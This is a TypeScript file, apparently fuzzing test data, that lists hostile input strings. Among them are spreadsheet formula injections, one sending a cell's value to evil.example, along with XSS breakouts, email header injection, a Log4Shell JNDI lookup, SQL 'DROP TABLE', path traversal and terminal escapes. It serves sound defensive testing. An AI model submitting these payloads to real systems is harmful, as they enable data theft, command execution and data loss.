export const words = (text: string) => text.trim().split(/\s+/)

/** Texts that broke other sites. Tags start with `<fuzz-`, so that the fuzzer finds unescaped ones. */
export const everyHostile: readonly string[] = [
  ...words(`=1+1 -2+3 @SUM(1+9)*cmd \uff1d1+1 x;=1+1 "=1+1`),
  ...['=HYPERLINK("https://evil.example?x="&A1;"clic")', "=cmd|' /C calc'!A0"],
  ...['+33 6 12 34 56 78', '\t=1+1', 'x\n=1+1'],
  ...words(`"><fuzz-b> '><fuzz-c> </script><fuzz-d> </textarea><fuzz-e> </title></style><fuzz-f>
    <!--<fuzz-g>--> &lt;fuzz-h&gt;&#60;fuzz-i&#62;`),
  ...['<fuzz-a onload=alert(1)>', '{{7*7}}<%= 7*7 %>#{7*7}'],
  ...['Inès\r\nBcc: victime@evil.example', 'Inès\nX-Injected: 1', 'Inès\u2028X-Injected: 1'],
  ...['a%0d%0aX-Injected:%201', 'a@b.fr>, <victime@evil.example'],
  '=?utf-8?q?=0D=0ABcc:_victime@evil.example?=',
  ...['\u001b[2J\u001b[31mrouge', '\u001b]0;titre\u0007', '\u009b31m', 'a\bb\rc\u007f'],
  ...['droite\u202Egauche', 'zéro\u200Blargeur\uFEFF'],
  ...words('a@b a@exemple.fr,b@exemple.fr ines@exempl\u00e9.fr'),
  ...['a@b.fr\0', '"a b"@exemple.fr'],
  ...[`${'a'.repeat(240)}@exemple.fr`, `a@${'a.'.repeat(120)}fr`],
  ...words('__proto__ constructor null ../../../../etc/passwd %00%2e%2e%2f \u0001\u0002'),
  ...['', ' ', '\0', "'; DROP TABLE leads; --", '$' + '{jndi:ldap://evil.example/a}'],
  ...['👩‍👩‍👧‍👦'.repeat(20), 'مرحبا بكم', 'a'.repeat(12_000), '語'.repeat(3_000)],
  'e\u0301'.repeat(200),
]
